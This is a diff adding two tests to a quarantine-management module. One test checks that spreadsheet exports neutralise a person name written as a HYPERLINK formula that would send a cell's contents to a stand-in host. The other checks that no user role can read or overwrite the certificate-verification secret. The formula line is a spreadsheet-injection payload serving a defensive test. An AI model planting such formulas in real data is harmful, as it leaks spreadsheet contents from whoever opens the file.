@@ -9,7 +9,8 @@ from trytond.modules.quarantine.tests.tools import (
     ActivatedTestCase,
     active_site, create_party, create_person, create_stay)
 from trytond.pool import Pool
-from trytond.transaction import Transaction
+from trytond.model.exceptions import AccessError
+from trytond.transaction import Transaction, check_access
 from trytond.tests.test_tryton import with_transaction
 
 
@@ -174,6 +175,33 @@ class ReleaseTestCase(ActivatedTestCase):
         self.assertEqual(row[5], stay.certificate_number)
 
     @with_transaction()
+    def test_notification_of_typed_texts(self):
+        """A community with characters a sheet title refuses gets its sheet,
+        and a name typed like a formula is exported as text"""
+        from openpyxl import load_workbook
+        pool = Pool()
+        Stay = pool.get('quarantine.stay')
+        Party = pool.get('party.party')
+        Notify = pool.get('quarantine.stay.notify', type='wizard')
+        self.labs()
+        stay = admitted_stay()
+        name = '=HYPERLINK("http://example.invalid/?"&B3,"点击")'
+        Party.write([stay.person], {'name': name})
+        Stay.write([stay], {'community': "和平社区:一/二"})
+        stay = self.release(Stay(stay.id))
+        session_id, _, _ = Notify.create()
+        wizard = Notify(session_id)
+        wizard.start.date_from = wizard.start.date_to = stay.release_date
+        wizard.start.site = None
+        self.assertEqual(wizard.transition_export(), 'result')
+        workbook = load_workbook(io.BytesIO(wizard.result.file))
+        self.assertEqual(workbook.sheetnames, ["和平社区_一_二"])
+        sheet = workbook["和平社区_一_二"]
+        self.assertIn("和平社区:一/二", sheet['A1'].value)
+        self.assertEqual(sheet['A3'].value, name)
+        self.assertEqual(sheet['A3'].data_type, 's')
+
+    @with_transaction()
     def test_sampling_roster(self):
         """Today's roster lists the residents to sample, room by room,
         and the staff"""
@@ -249,6 +277,46 @@ class ReleaseTestCase(ActivatedTestCase):
             {'valid': False})
         self.assertEqual(Stay.verify_certificate('JC-NONE', code),
             {'valid': False})
+
+    @with_transaction()
+    def test_certificate_secret_unreadable(self):
+        """No user reads or writes the key of the verification codes, and
+        the certificates still verify"""
+        pool = Pool()
+        Stay = pool.get('quarantine.stay')
+        User = pool.get('res.user')
+        Configuration = pool.get('quarantine.configuration')
+        ModelData = pool.get('ir.model.data')
+        self.labs()
+        stay = admitted_stay()
+        first, second = [s for s in stay.samples if s.exit_sample]
+        self.record([s for s in stay.samples if not s.exit_sample])
+        self.record([first], institution=self.lab_a, reagent="华大")
+        self.record([second], institution=self.lab_b, reagent="达安")
+        Stay.release([stay])
+        code = Stay(stay.id).certificate_code()
+        secret = Configuration(1).certificate_secret
+        self.assertTrue(secret)
+        for login, group in [('nobody', None), ('medic', 'group_medical'),
+                ('chief', 'group_admin')]:
+            groups = [ModelData.get_id('quarantine', group)] if group else []
+            user, = User.create([{'login': login, 'name': login,
+                        'groups': [('add', groups)],
+                        'quarantine_sites': [('add', [stay.site.id])]}])
+            with self.subTest(user=login), \
+                    Transaction().set_user(user.id), check_access():
+                with self.assertRaises(AccessError):
+                    Configuration.read([1], ['certificate_secret'])
+                with self.assertRaises(AccessError):
+                    Configuration.search_read(
+                        [], fields_names=['certificate_secret'])
+                with self.assertRaises(AccessError):
+                    Configuration.write([Configuration(1)],
+                        {'certificate_secret': 'known'})
+                if group:
+                    self.assertTrue(Stay.verify_certificate(
+                            stay.certificate_number, code)['valid'])
+        self.assertEqual(Configuration(1).certificate_secret, secret)
 
     @with_transaction()
     def test_positive_flags_and_blocks(self):
